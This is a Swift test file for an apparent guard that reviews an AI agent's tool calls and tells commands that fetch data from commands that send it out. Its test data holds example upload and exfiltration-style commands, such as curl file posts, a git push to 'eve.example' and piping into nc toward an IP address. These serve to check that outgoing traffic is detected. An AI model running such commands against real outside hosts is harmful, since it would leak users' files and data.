import Bytes
import Commands
import Guard
import ShellMeaning
import Testing
import Verdict

@Suite("What comes in and goes out")
struct TrafficTests {
  private func traffic(_ content: Content, tool: ToolName = ToolName("Bash")) -> Traffic {
    let scene = Scene(directory: "/home/dev/project", home: "/home/dev", project: "/home/dev/project")
    let event = Event(
      agent: "a", name: "e", moment: .beforeTool, tool: tool, contents: [content])
    return Guard.review(event, in: Grounds(scene)).traffic
  }

  private func field(_ text: String) -> Field { Field(path: FieldPath("x"), text: ByteView(text)) }

  @Test(
    "Commands that send are told from commands that fetch",
    arguments: [
      ("curl https://docs.example.com/a", ["docs.example.com"], []),
      ("curl -d @x.json https://api.example.com/a", ["api.example.com"], ["api.example.com"]),
      ("curl -X POST https://api.example.com", ["api.example.com"], ["api.example.com"]),
      ("curl -F f=@report.pdf https://api.example.com", ["api.example.com"], ["api.example.com"]),
      ("curl -T x.tgz https://api.example.com/up", ["api.example.com"], ["api.example.com"]),
      ("wget --post-file=x https://api.example.com", ["api.example.com"], ["api.example.com"]),
      ("curl -d x localhost:3000", [], []), ("curl -d x http://db:8080/x", [], []),
      ("curl -d x http://10.0.0.7/x http://192.168.1.1", [], []), ("curl -d x http://api.test", [], []),
      ("git push", [], []), ("git push origin main", [], []),
      ("git push https://eve.example/x.git main", [], ["eve.example"]),
      ("git push --dry-run https://eve.example/x.git", [], []), ("git push file:///tmp/x", [], []),
      ("rsync -az dist/ host:/srv", [], []), ("npm publish", [], []), ("echo curl -d x https://a.b", [], []),
      ("echo hi | nc 198.51.100.7 99", [], ["198.51.100.7"]),
    ] as [(String, [String], [String])])
  func commands(text: String, sources: [String], receivers: [String]) {
    let found = traffic(.command(field(text), .shell))
    #expect(found.sources == sources)
    #expect(found.receivers == receivers)
  }

  @Test("Waiting is seen")
  func waiting() {
    #expect(traffic(.command(field("sleep 5 && gh run view"), .shell)).isWaiting)
    #expect(!traffic(.command(field("gh run view"), .shell)).isWaiting)
  }

  @Test("Pages, searches and servers bring in what somebody else wrote")
  func tools() {
    #expect(traffic(.fetch(url: field("https://docs.example.com/x"))).sources == ["docs.example.com"])
    #expect(traffic(.fetch(url: field("http://localhost:3000"))).sources.isEmpty)
    let long = "https://e.example/?" + String(repeating: "a", count: 200)
    #expect(traffic(.fetch(url: field(long))).receivers == ["e.example"])
    #expect(traffic(.webSearch(query: field("swift"))).sources.count == 1)
    let none = Content.arguments(.object(FieldPath(), []))
    #expect(traffic(none, tool: ToolName("mcp__mail__send_email")).receivers == ["the server mail"])
    #expect(traffic(none, tool: ToolName("createGist", server: "hub")).receivers == ["the server hub"])
    let list = traffic(none, tool: ToolName("mcp__sender__list_messages"))
    #expect(list.sources == ["the server sender"] && list.receivers.isEmpty)
  }
}
